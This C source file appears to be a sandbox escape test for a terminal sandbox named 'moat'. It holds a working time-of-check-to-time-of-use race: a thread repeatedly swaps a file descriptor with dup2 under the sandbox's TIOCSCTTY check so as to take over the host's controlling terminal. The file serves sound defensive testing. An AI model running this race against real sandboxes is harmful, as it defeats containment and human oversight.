/* esc_ctty_race — make the terminal moat was started from our controlling
 * terminal, by swapping the fd under moat's TIOCSCTTY check.
 *
 * Attacks rules 1 and 5.  moat lets TIOCSCTTY through (CONTINUE) when a
 * readlink of /proc/TID/fd/N names a pty of the sandbox's own rather than
 * moat's terminal (interposer/sys_proc.c, sys_ioctl).  That is a decision
 * on the fd table, not on registers: between the readlink and the kernel's
 * ioctl another thread may dup2 the host terminal onto N.  The kernel then
 * makes the host terminal the controlling terminal of the sandbox's session
 * whenever no other session holds it — a pty given to moat by a program
 * that opened it with O_NOCTTY (pty.openpty, an agent platform's runner).
 * The runner (run_pty) gives fds 0-2 such a pty.
 *
 * Natively fd 0 is simply taken (after setsid in a child, since the runner
 * does not make us a session leader).  Under moat the direct TIOCSCTTY on
 * fd 0 is refused (audited); then a thread flips fd 10 between our own pty
 * and fd 0 while this one calls ioctl(10, TIOCSCTTY); success on the host
 * terminal is judged by the kernel: TIOCGSID on fd 0 works only for the
 * caller's controlling terminal.
 *
 * usage: esc_ctty_race
 */
#include "esc.h"
#include <pthread.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/wait.h>

#define SLOT 10
static int own = -1;
static volatile int stop;

static void *flip(void *arg)
{
	(void)arg;
	while (!stop) {
		dup2(0, SLOT);
		dup2(own, SLOT);
	}
	return NULL;
}

static int fd0_is_ctty(void)
{
	pid_t s = 0;
	return ioctl(0, TIOCGSID, &s) == 0 && s == getsid(0);
}

static int attempt(void)
{
	/* TIOCNOTTY by a session leader hangs up its foreground group: us */
	signal(SIGHUP, SIG_IGN);
	if (!isatty(0))
		esc_unsupported("fd 0 is not a terminal (run me from run.sh's run_pty)");
	if (ioctl(0, TIOCSCTTY, 0) == 0 && fd0_is_ctty()) {
		esc_won("ioctl(0, TIOCSCTTY) made the host terminal ours");
		return esc_finish();
	}
	esc_held("ioctl(0, TIOCSCTTY): %s", esc_errname(errno));
	int m = posix_openpt(O_RDWR | O_NOCTTY);
	if (m < 0 || grantpt(m) < 0 || unlockpt(m) < 0 || !ptsname(m) ||
	    (own = open(ptsname(m), O_RDWR | O_NOCTTY)) < 0) {
		esc_held("no pty of our own to race with: %s", esc_errname(errno));
		return esc_finish();
	}
	dup2(own, SLOT);
	pthread_t th;
	if (pthread_create(&th, NULL, flip, NULL) != 0) {
		esc_held("pthread_create failed");
		return esc_finish();
	}
	long own_taken = 0, i;
	for (i = 0; i < 20000 && !fd0_is_ctty(); i++) {
		if (ioctl(SLOT, TIOCSCTTY, 0) == 0 && !fd0_is_ctty()) {
			own_taken++;
			ioctl(SLOT, TIOCNOTTY); /* our own pty: let it go, again */
		}
	}
	stop = 1;
	pthread_join(th, NULL);
	if (fd0_is_ctty())
		esc_won("the host terminal (fd 0) became our controlling terminal by swapping fd %d "
			"under TIOCSCTTY (try %ld)", SLOT, i);
	else
		esc_held("%ld tries: TIOCSCTTY took only our own pty (%ld times)", i, own_taken);
	return esc_finish();
}

int main(void)
{
	if (getsid(0) == getpid())
		return attempt();
	/* Natively: a session leader of our own, in a child. */
	fflush(NULL);
	pid_t pid = fork();
	if (pid < 0)
		esc_unsupported("fork failed");
	if (pid == 0) {
		if (setsid() < 0)
			esc_unsupported("setsid failed");
		exit(attempt());
	}
	int st;
	if (waitpid(pid, &st, 0) < 0 || !WIFEXITED(st))
		return 2;
	return WEXITSTATUS(st);
}
